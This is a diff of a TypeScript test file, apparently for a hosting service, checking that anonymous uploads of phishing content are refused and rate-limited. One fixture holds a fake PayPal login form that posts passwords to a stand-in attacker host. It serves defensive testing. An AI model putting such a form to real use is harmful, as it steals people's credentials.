@@ -8,9 +8,9 @@ import { openRealStores, type RealStores, signUp } from '../real-stores.test-sup
 import { uploadFile } from '../upload-file.ts'
 import type { Part } from './part.ts'
 
-const deceit =
+const phishingPage =
   '<h1>Log in to PayPal</h1><form action="https://thief.example"><input type="password"></form>'
-const somebody = { network: '203.0.113.1', browserId: null }
+const anonymous = { network: '203.0.113.1', browserId: null }
 
 async function* upload(filename: string, content: string): AsyncGenerator<Part> {
   yield { kind: 'file', field: 'file', filename, content: Readable.from([Buffer.from(content)]) }
@@ -23,22 +23,28 @@ beforeAll(async () => {
 afterAll(() => stores.remove())
 
 test.each([
-  ['HTML', () => publishAnonymously(stores.deps, somebody, { parts: upload('a.html', deceit) })],
+  [
+    'HTML',
+    () => publishAnonymously(stores.deps, anonymous, { parts: upload('a.html', phishingPage) }),
+  ],
   [
     'a Markdown file',
-    () => publishAnonymously(stores.deps, somebody, { parts: upload('a.md', deceit) }),
+    () => publishAnonymously(stores.deps, anonymous, { parts: upload('a.md', phishingPage) }),
   ],
-  ['Markdown', () => publishMarkdownAnonymously(stores.deps, somebody, { markdown: deceit })],
-])('deceit as %s is refused without an account, with its reasons', async (_, publish) => {
+  [
+    'Markdown',
+    () => publishMarkdownAnonymously(stores.deps, anonymous, { markdown: phishingPage }),
+  ],
+])('phishing as %s is refused without an account, with its reasons', async (_, publish) => {
   await expect(publish()).rejects.toMatchObject({
     code: 'content_rejected',
     detail: expect.stringMatching(/asks for a password; .*PayPal.*; it sends what is typed/),
   })
-  const counts = await stores.deps.database.read.anonymousPublishes.count(somebody, Date.now())
+  const counts = await stores.deps.database.read.anonymousPublishes.count(anonymous, Date.now())
   expect(counts.networkHour).toBe(0)
 })
 
-test('a network that tries for ever is stopped, and bad uploads do not count', async () => {
+test('uploads of a network are rate-limited, and invalid ones do not count', async () => {
   const network = '203.0.113.2'
   const { most } = attemptLimits.anonymous_upload_network
   const attempt = { kind: 'anonymous_upload_network', key: network } as const
@@ -48,20 +54,20 @@ test('a network that tries for ever is stopped, and bad uploads do not count', a
   const { perHour } = stores.deps.anonymousAllowances.standard
   const unsupported = { code: 'unsupported_file_type' }
   for (let tries = 0; tries < perHour; tries++) {
-    await expect(publish(upload('a.html', deceit))).rejects.toMatchObject({
+    await expect(publish(upload('a.html', phishingPage))).rejects.toMatchObject({
       code: 'content_rejected',
     })
-    await expect(publish(upload('a.png', deceit))).rejects.toMatchObject(unsupported)
+    await expect(publish(upload('a.png', phishingPage))).rejects.toMatchObject(unsupported)
   }
-  await expect(publish(upload('a.html', deceit))).rejects.toMatchObject({
+  await expect(publish(upload('a.html', phishingPage))).rejects.toMatchObject({
     code: 'rate_limited',
     detail: expect.stringContaining('uploads from your network'),
   })
-  await expect(publish(upload('a.png', deceit))).rejects.toMatchObject(unsupported)
+  await expect(publish(upload('a.png', phishingPage))).rejects.toMatchObject(unsupported)
 })
 
-test('accounts are not governed by it', async () => {
+test('accounts are exempt', async () => {
   const { actor, site } = await signUp(stores.deps, 'free')
-  const input = { id: site, parts: upload('a.html', deceit) }
+  const input = { id: site, parts: upload('a.html', phishingPage) }
   expect((await uploadFile(stores.deps, actor, input)).version.number).toBe(1)
 })
